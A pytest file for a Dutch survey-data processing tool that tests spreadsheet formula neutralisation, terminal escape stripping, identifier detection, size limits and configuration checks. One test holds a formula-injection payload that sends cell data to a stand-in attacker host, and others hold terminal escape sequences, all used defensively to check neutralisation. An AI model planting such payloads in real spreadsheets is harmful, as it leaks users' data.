"""Every delivered value is what the file says or a located error; limits; text made safe for
spreadsheets and terminals; identifiers in values; a checked ceo.yaml.

The bad deliveries themselves are cases of the corpus in ``tests/data/bad/`` (run by
``tests/test_bad_inputs.py``); these are the unit tests of the rules behind them.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from ceo.cli import main
from ceo.core.problems import InputError, Problem
from ceo.core.safetext import neutralise, neutralise_frame, printable
from ceo.io import readers
from ceo.io.limits import Limits, parse_limits
from ceo.io.readers import read_table
from ceo.stats import estimation
from ceo.stats.weighting import _weight_column
from ceo.validate.codebook import get_codebook
from ceo.validate.harmonise import harmonise
from ceo.validate.privacy import identifiers_in_values
from ceo.validate.project import load_project, slug

ROOT = Path(__file__).resolve().parent.parent
BAD = ROOT / "tests" / "data" / "bad"


def messages(exc: pytest.ExceptionInfo) -> list[str]:
    return [str(p) for p in exc.value.problems]


# --------------------------------------------------------------------------- spreadsheets, terminal

def test_formulas_are_neutralised_but_numbers_stay_numbers():
    frame = pd.DataFrame({
        "naam": ['=HYPERLINK("http://x.example","klik")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Nederland",
                 "-3.5", "+2", None],
        "waarde": [-3.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, 9.0],
    })
    out = neutralise_frame(frame)
    assert out["naam"].tolist()[:6] == ['\'=HYPERLINK("http://x.example","klik")', "'+1+1", "'-2+3", "'@SUM(A1)",
                                        "'\tx", "'\rx"]
    assert out["naam"].tolist()[6:9] == ["Nederland", "-3.5", "+2"] and pd.isna(out["naam"].iat[9])
    assert out["waarde"].dtype == float and out["waarde"].iat[0] == -3.5
    assert frame["naam"].iat[0].startswith("=")  # the input is not changed
    assert neutralise("-3,5") == "-3,5" and neutralise("=1") == "'=1"
    same = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    assert neutralise_frame(same) is same


def test_a_benchmark_name_that_is_a_formula_is_not_published_as_one(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    shutil.copy(ROOT / "ceo.yaml", project / "ceo.yaml")
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    (project / "site").mkdir()
    delivery = tmp_path / "wmo_2025.csv"
    shutil.copy(BAD / "benchmark_kapot" / "wmo_2025.csv", delivery)
    payload = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Nederland")'
    bench = tmp_path / "benchmark.csv"
    bench.write_text('indicator,waarde,naam\nv01,81.2,"' + payload.replace('"', '""') + '"\n', encoding="utf-8")
    result = CliRunner().invoke(main, ["process", "--project", str(project), "--date", "2025-06-01", "--survey",
                                       "wmo", "--edition", "2025", "--benchmark", str(bench), str(delivery)])
    assert result.exit_code == 0, result.output
    table = (project / "site" / "2025" / "data" / "wmo.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in table
    for line in table.splitlines():
        for field in line.split(","):
            assert not field.lstrip('"').startswith(("=", "@")), field
    # and in the workbook of the edition
    books = list((project / "site").rglob("*.xlsx"))
    assert books
    for book in books:
        with zipfile.ZipFile(book) as z:
            xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
        assert ">=HYPERLINK" not in xml


def test_escape_sequences_are_never_printed():
    nasty = "\x1b[2J\x1b]0;titel\x07Dordrecht\x1b[31m\u202e\x00\x9b1m"
    assert printable(nasty) == "Dordrecht"
    problem = Problem("onbekende gemeente", "wmo\x1b[31m.csv", 3, "gem\x1b[0meente", nasty)
    text = str(problem)
    assert "\x1b" not in text and "\u202e" not in text and "\x9b" not in text
    assert text == "wmo.csv, rij 3, kolom 'gemeente': waarde 'Dordrecht': onbekende gemeente"
    assert printable("caf\udce9.csv") == "caf\ufffd.csv"  # a file name that is not UTF-8 can be printed


def test_inspect_does_not_echo_escape_sequences(tmp_path):
    path = tmp_path / "wmo.csv"
    path.write_text("respondent_id;gemeentecode;opmerking\n1;GM0505;\x1b[2Jweg\n2;GM0505;ok\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["inspect", str(path)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "weg" in result.output


# --------------------------------------------------------------------------- what the file says

def test_long_respondent_numbers_stay_text_and_are_not_duplicates(tmp_path):
    ids = [str(12345678901234567 + i) for i in range(5)]  # float64 would make them all ...568
    path = tmp_path / "wmo.csv"
    path.write_text("respondent_id,gemeentecode,score\n" + "".join(f"{i},GM0505,{k}\n" for k, i in enumerate(ids)),
                    encoding="utf-8")
    raw = read_table(path)
    assert raw.data["respondent_id"].tolist() == ids
    assert raw.data["score"].dtype == float  # short numbers are still numbers
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["respondent_id", "score"])
    for k, i in enumerate(ids):
        wb.active.append([i, k])  # ids typed as text in Excel
    xlsx = tmp_path / "wmo.xlsx"
    wb.save(xlsx)
    assert read_table(xlsx).data["respondent_id"].tolist() == ids


def test_long_ids_reach_the_microdata_exactly(tmp_path):
    raw = read_table(BAD / "lange_respondentnummers" / "wmo_2025.csv")
    data = harmonise([raw], get_codebook("wmo")).data
    assert data["respondent_id"].is_unique
    assert data["respondent_id"].iat[1] == "202500000000000007"


def test_excel_formulas_without_value_and_booleans_are_located():
    with pytest.raises(InputError) as exc:
        read_table(BAD / "xlsx_formule_zonder_waarde" / "wmo_2025.xlsx")
    assert [(p.row, p.column, p.value) for p in exc.value.problems] == [(4, "v02", "=B4*0+C4"),
                                                                        (9, "v02", "=B9*0+C9")]
    assert "cel D4" in exc.value.problems[0].message
    with pytest.raises(InputError) as exc:
        read_table(BAD / "xlsx_waar_onwaar" / "wmo_2025.xlsx")
    assert [(p.row, p.column, p.value) for p in exc.value.problems] == [(4, "v05", "WAAR"), (7, "v05", "ONWAAR")]


def test_excel_formulas_with_a_saved_result_are_read(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["id", "v", "opmerking"])
    wb.active.append([1, "=1+1", '=IF(1=1,"","x")'])
    wb.active.append([2, 3, "goed"])
    plain = tmp_path / "plain.xlsx"
    wb.save(plain)
    with pytest.raises(InputError) as exc:  # as openpyxl writes it: no saved results
        read_table(plain)
    assert [(p.row, p.column) for p in exc.value.problems] == [(2, "v"), (2, "opmerking")]
    # as Excel saves it: the result of each formula next to it (2, and the empty text)
    with zipfile.ZipFile(plain) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    xml = xml.replace("<f>1+1</f><v />", "<f>1+1</f><v>2</v>")
    xml = xml.replace('<c r="C2">', '<c r="C2" t="str">')
    assert xml.count("<v />") == 1
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    saved = tmp_path / "saved.xlsx"
    with zipfile.ZipFile(saved, "w") as z:
        for n, data in parts.items():
            z.writestr(n, data)
    data = read_table(saved).data
    assert data["v"].tolist() == [2.0, 3.0] and pd.isna(data["opmerking"].iat[0])


def _frame(weights: list[float], gemeente: str = "GM0505") -> pd.DataFrame:
    return pd.DataFrame({"gemeentecode": gemeente, "g": weights, "_bron": "w.csv",
                         "_rij": np.arange(2, 2 + len(weights))})


def test_weights_carried_by_a_few_respondents_are_refused():
    # no weight above half the total, but three of 40 respondents carry 89 %: n_eff 3.8 < 10 % of 40
    weights = [1.0] * 37 + [100.0] * 3
    with pytest.raises(InputError) as exc:
        _weight_column(_frame(weights), "g", None)
    (problem,) = exc.value.problems
    assert problem.row == 41 and problem.column == "g" and "effectieve n is 3,8 bij 40" in problem.message
    # spread weights are fine; so is a tiny gemeente (its figures are suppressed anyway)
    ok = _weight_column(_frame(list(np.linspace(0.5, 3.0, 40))), "g", None)
    assert len(ok) == 40
    assert len(_weight_column(_frame([1.0, 50.0, 1.0, 1.0]), "g", None)) == 4


@pytest.mark.parametrize("value, message", [("inf", "oneindig"), ("1e308", "onmogelijk groot"),
                                            ("-Infinity", "oneindig"), ("nan", "geen getal")])
def test_non_finite_or_absurd_weights_are_refused(value, message):
    frame = _frame([1.0] * 10)
    frame["g"] = frame["g"].astype(object)
    frame.loc[3, "g"] = value
    with pytest.raises(InputError) as exc:
        _weight_column(frame, "g", None)
    (problem,) = exc.value.problems
    assert problem.row == 5 and message in problem.message


# --------------------------------------------------------------------------- identifiers in values

def test_identifiers_in_open_answers():
    values = pd.Series(["Wijkteam Noord", "mail: j.jansen@voorbeeld.nl", None, "bel 06 1234 5678",
                        "bel +31 78 123 4567", "Molenstraat 1, 3311 AB Dordrecht", "bsn 111222333",
                        "in 2024 en 2025 beter", "bel 112", "nummer 123456789", "7,5 uur", "Delft (2611AB)"])
    found, whole = identifiers_in_values(values, "open")
    assert whole is None
    assert [(i, what) for i, what, _ in found] == [
        (1, "een e-mailadres"), (3, "een telefoonnummer"), (4, "een telefoonnummer"), (5, "een postcode"),
        (6, "een burgerservicenummer (BSN)"), (11, "een postcode")]


def test_respondent_numbers():
    from ceo.validate.privacy import is_bsn

    rng = np.random.default_rng(1)
    numbers = [str(x) for x in rng.integers(100_000_000, 999_999_999, 200)]
    assert identifiers_in_values(pd.Series(numbers), "id") == ([], None)  # about 1 in 11 passes by chance
    bsns = [n for n in (str(x) for x in range(100_000_000, 100_010_000)) if is_bsn(n)][:20]
    found, whole = identifiers_in_values(pd.Series([float(b) for b in bsns]), "id")
    assert found == [] and whole.startswith("de respondentnummers lijken burgerservicenummers (BSN): 20 van de 20")
    found, whole = identifiers_in_values(pd.Series(["250001", "a.b@c.nl", "0612345678"]), "id")
    assert found == [(1, "een e-mailadres", "a.b@c.nl")] and whole is None


def test_an_open_answer_column_under_negeren_is_not_refused(tmp_path):
    delivery = BAD / "identificerend_in_open_antwoord" / "professionals_2025.csv"
    cb = get_codebook("professionals")
    from ceo.validate.mapping import load_mapping

    refuse = tmp_path / "weigeren.yaml"
    refuse.write_text("onderzoek: professionals\nidentificatie: weigeren\n", encoding="utf-8")
    with pytest.raises(InputError):
        harmonise([read_table(delivery)], cb, load_mapping(refuse, cb))
    # by default (issue 21) the identifiers are replaced instead, and counted
    redacted = harmonise([read_table(delivery)], cb)
    assert "p.devries@wijkteam-noord.nl" not in redacted.data["organisatie"].str.cat(sep=" ")
    assert "Jeugdteam (bel [telefoon])" in redacted.data["organisatie"].tolist()
    assert any("3 direct identificerende gegevens in open antwoorden vervangen" in n for n in redacted.notices)
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text("onderzoek: professionals\nnegeren: [organisatie]\n", encoding="utf-8")
    data = harmonise([read_table(delivery)], cb, load_mapping(mapping, cb)).data
    assert "organisatie" not in data and len(data) == 40


# --------------------------------------------------------------------------- limits

def _csv(tmp_path: Path, rows: int, cols: int = 3, cell: str = "1") -> Path:
    path = tmp_path / "x.csv"
    path.write_text(",".join(f"k{j}" for j in range(cols)) + "\n"
                    + "".join(",".join([str(i)] + [cell] * (cols - 1)) + "\n" for i in range(rows)), encoding="utf-8")
    return path


def test_rows_columns_and_cells_beyond_the_limits_are_refused(tmp_path):
    with pytest.raises(InputError) as exc:
        read_table(_csv(tmp_path, 10), Limits(max_rows=5))
    assert messages(exc) == ["x.csv, rij 7: het bestand heeft meer dan 5 rijen met respondenten, de grens "
                             "(grens instelbaar in ceo.yaml onder 'limieten')"]
    with pytest.raises(InputError) as exc:
        read_table(_csv(tmp_path, 3, cols=8), Limits(max_columns=5))
    assert exc.value.problems[0].row == 1 and "8 kolommen" in exc.value.problems[0].message
    with pytest.raises(InputError) as exc:
        read_table(_csv(tmp_path, 3, cell="abcdefghijk"), Limits(max_cell_chars=10))
    (problem,) = exc.value.problems
    assert (problem.row, problem.column, problem.value) == (2, "k1", "abcdefghijk")
    assert len(read_table(_csv(tmp_path, 5), Limits(max_rows=5)).data) == 5  # at the limit is fine


def test_excel_limits(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["id", "opmerking", "c", "d"])
    for i in range(6):
        wb.active.append([i, "x" * (20 + i), 1, 2])
    path = tmp_path / "x.xlsx"
    wb.save(path)
    with pytest.raises(InputError) as exc:
        read_table(path, Limits(max_cell_chars=24))
    assert [(p.row, p.column) for p in exc.value.problems] == [(7, "opmerking")]
    with pytest.raises(InputError) as exc:
        read_table(path, Limits(max_columns=3))
    assert "meer dan 3 kolommen" in exc.value.problems[0].message
    with pytest.raises(InputError) as exc:
        read_table(path, Limits(max_rows=3))
    assert "6 rijen met respondenten, meer dan de grens van 3" in exc.value.problems[0].message
    unpacked = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    assert len(read_table(path, Limits(max_xlsx_mb=1)).data) == 6 and unpacked < 1_000_000


def test_limits_in_ceo_yaml():
    limits, problems = parse_limits({"max_tekens_per_cel": 500, "max_rijen": 10})
    assert limits == Limits(max_cell_chars=500, max_rows=10) and problems == []
    limits, problems = parse_limits({"max_kolom": 5, "max_rijen": 0, "max_kolommen": float("inf")})
    assert limits == Limits() and [v for _, v in problems] == ["max_kolom", 0, float("inf")]


def test_reading_in_chunks_gives_the_same_table(tmp_path, monkeypatch):
    path = tmp_path / "x.csv"
    lines = ["id;gem;v;open;;"] + [f"{i};GM0505;{i % 5};{'tekst' if i % 3 else ''};;" for i in range(1, 30)]
    lines[17] = "17;GM0505;2"  # a field too few
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(InputError) as whole:
        read_table(path)
    monkeypatch.setattr(readers, "_CSV_CHUNK", 4)
    with pytest.raises(InputError) as chunked:
        read_table(path)
    assert messages(whole) == messages(chunked) and chunked.value.problems[0].row == 18
    lines[17] = "17;GM0505;2;weer goed;;"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    small = read_table(path).data
    monkeypatch.setattr(readers, "_CSV_CHUNK", 65_536)
    pd.testing.assert_frame_equal(small, read_table(path).data)
    assert list(small.columns) == ["id", "gem", "v", "open"]


def test_estimation_in_chunks_of_variables_gives_the_same_figures(monkeypatch):
    rng = np.random.default_rng(5)
    n = 400
    data = pd.DataFrame({"g": rng.choice(["A", "B", "C"], n), "w": rng.uniform(0.5, 2, n),
                         "sub": rng.choice([1.0, 2.0, np.nan], n)})
    variables = []
    for k in range(7):
        col = rng.choice([0.0, 1.0, np.nan], n)
        data[f"y{k}"] = col if k != 3 else rng.integers(1, 11, n).astype(float)
        variables.append(f"y{k}")
    kwargs = dict(stratum="g", weight="w", areas={"A": ["A"], "AB": ["A", "B"], "alle": ["A", "B", "C"]})
    whole = estimation.domain_estimates(data, variables, by="sub", **kwargs)
    monkeypatch.setattr(estimation, "_CHUNK_ELEMENTS", 2 * n)  # two variables at a time
    chunked = estimation.domain_estimates(data, variables, by="sub", **kwargs)
    pd.testing.assert_frame_equal(whole, chunked)


# --------------------------------------------------------------------------- ceo.yaml

def _project(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "ceo.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return tmp_path


def test_region_ids_are_checked(tmp_path):
    text = ("regios:\n"
            "  - {id: GM0505, gemeenten: [GM0505, GM0642]}\n"
            "  - {id: totaal, gemeenten: [GM0505]}\n"
            "  - {id: Totaal, gemeenten: [GM0505]}\n"
            "  - {id: '---', gemeenten: [GM0505]}\n"
            "  - {id: '0505', gemeenten: [GM0505]}\n"
            "  - {id: noord, gemeenten: [GM0505]}\n"
            "  - {id: Noord, gemeenten: [GM0642]}\n"
            "  - {id: drechtsteden, gemeenten: 5}\n")
    with pytest.raises(InputError) as exc:
        load_project(_project(tmp_path, text))
    got = [(p.row, p.value, p.message) for p in exc.value.problems]
    expected = [
        (2, "GM0505", "regios[1]: een regio-id mag geen gemeentecode"),
        (3, "totaal", "regios[2]: 'totaal' is gereserveerd voor "),
        (4, "Totaal", "regios[3]: 'totaal' is gereserveerd voor "),
        (5, "---", "regios[4]: een regio-id moet letters of c"),
        (6, "0505", "regios[5]: een regio-id mag geen gemeente"),
        (9, 5, "regios[8] (drechtsteden): gemeenten moet "),
        (None, "Noord", "regio-id's 'noord' en 'Noord' geven dezel"),
    ]
    assert [(r, v, m[:len(e[2])]) for (r, v, m), e in zip(got, expected, strict=True)] == expected
    assert all(p.file == "ceo.yaml" for p in exc.value.problems)


def test_slug_is_the_page_name_of_the_site():
    from ceo.site.render import slug as site_slug

    for name in ("Drechtsteden", "Zuid-Holland Zuid", "Súdwest-Fryslân", "***", "a__b", "Totaal"):
        assert slug(name) == site_slug(name)


@pytest.mark.parametrize("text, expected", [
    (b"naam: Cli\xebntervaringsonderzoek\n", "ceo.yaml, regel 1: waarde 'naam: Cliëntervaringsonderzoek': het "
                                            "bestand is niet opgeslagen als UTF-8-tekst"),
    ("drempels:\n  minimum_n: .inf\n", "ceo.yaml, regel 2: waarde 'inf': drempels: minimum_n moet een eindig geheel "
                                       "getal zijn"),
    ("drempels:\n  indicatief_n_eff: .nan\n", "ceo.yaml, regel 2: waarde 'nan': drempels: indicatief_n_eff moet een "
                                              "eindig getal zijn"),
    ("drempels:\n  onthulling_n: 2.5\n", "ceo.yaml, regel 2: waarde '2.5': drempels: onthulling_n moet een eindig "
                                         "geheel getal zijn"),
    ("regios: 5\n", "ceo.yaml, regel 1: waarde '5': regios moet een lijst van regio's zijn"),
    ("limieten:\n  max_rijen: -1\n", "ceo.yaml, regel 1: waarde '-1': limieten: max_rijen moet een geheel getal van "
                                     "minstens 1 zijn"),
])
def test_config_mistakes_are_located(tmp_path, text, expected):
    with pytest.raises(InputError) as exc:
        load_project(_project(tmp_path, text))
    assert str(exc.value.problems[0]).startswith(expected), str(exc.value.problems[0])


def test_limits_reach_the_reader(tmp_path):
    root = _project(tmp_path, "limieten:\n  max_rijen: 3\n")
    assert load_project(root).limits.max_rows == 3
    (root / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    delivery = _csv(tmp_path, 5)
    result = CliRunner().invoke(main, ["process", "--project", str(root), "--survey", "wmo", "--edition", "2025",
                                       str(delivery)])
    assert result.exit_code == 2 and "meer dan 3 rijen" in result.stderr, result.output



def test_spss_files_beyond_the_row_limit_are_refused_from_their_header(tmp_path):
    import pyreadstat

    path = tmp_path / "wmo.sav"
    pyreadstat.write_sav(pd.DataFrame({"respondent_id": np.arange(1.0, 8.0), "v01": 1.0}), path)
    assert len(read_table(path, Limits(max_rows=7)).data) == 7
    with pytest.raises(InputError) as exc:
        read_table(path, Limits(max_rows=6))
    assert messages(exc) == ["wmo.sav: het bestand heeft 7 respondenten, meer dan de grens van 6 (grens "
                             "instelbaar in ceo.yaml onder 'limieten')"]
